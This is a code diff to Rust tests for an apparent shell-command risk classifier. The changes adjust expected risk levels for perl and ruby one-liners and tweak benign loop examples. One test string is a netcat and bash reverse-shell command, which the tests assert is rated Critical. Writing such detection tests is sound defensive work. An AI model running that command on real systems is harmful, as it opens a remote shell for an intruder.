@@ -210,8 +210,13 @@ fn perl_ruby_php_lua_one_liners() {
     ));
     expect(&[
         ("perl -pi -e 's/foo/bar/g' file.txt", Risk::None),
-        ("perl -e 'print \"hello\\n\"'", Risk::None),
-        ("ruby -e 'puts 1+1'", Risk::None),
+        ("perl -pe 's/a/b/' f", Risk::None),
+    ]);
+    // Perl and Ruby code is only scanned, not analysed: the auto-run gate
+    // asks first (issue 15).
+    expect(&[
+        ("perl -e 'print \"hello\\n\"'", Risk::Medium),
+        ("ruby -e 'puts 1+1'", Risk::Medium),
     ]);
     at_most(
         &[
@@ -279,11 +284,11 @@ fn endless_loops_that_spawn_background_jobs() {
         ("while read l; do echo \"$l\" & done < f", Risk::None),
         ("while true; do ./server & wait; done", Risk::None),
         ("while :; do make; sleep 5; done", Risk::None),
-        ("until false; do x & sleep 1; done", Risk::None),
+        ("until false; do ./x & sleep 1; done", Risk::None),
         ("while true; do sleep 1; done &", Risk::None),
-        ("for ((i=0;i<10;i++)); do job $i & done; wait", Risk::None),
+        ("for ((i=0;i<10;i++)); do ./job $i & done; wait", Risk::None),
         (
-            "while true; do x & if done_yet; then break; fi; done",
+            "while true; do ./x & if ./done_yet; then break; fi; done",
             Risk::None,
         ),
     ]);
@@ -354,7 +359,7 @@ fn zsh_tcp_and_shells_on_run_time_fds() {
     let nc = "nc 10.0.0.1 4444 &\nbash -i <&$fd >&$fd";
     assert_eq!(sh(nc), Risk::Critical);
     at_most(
-        &["ls >&$fd", "echo hi >&2", "cmd 2>&1 | tee log.txt"],
+        &["ls >&$fd", "echo hi >&2", "make 2>&1 | tee log.txt"],
         Risk::Low,
     );
 }
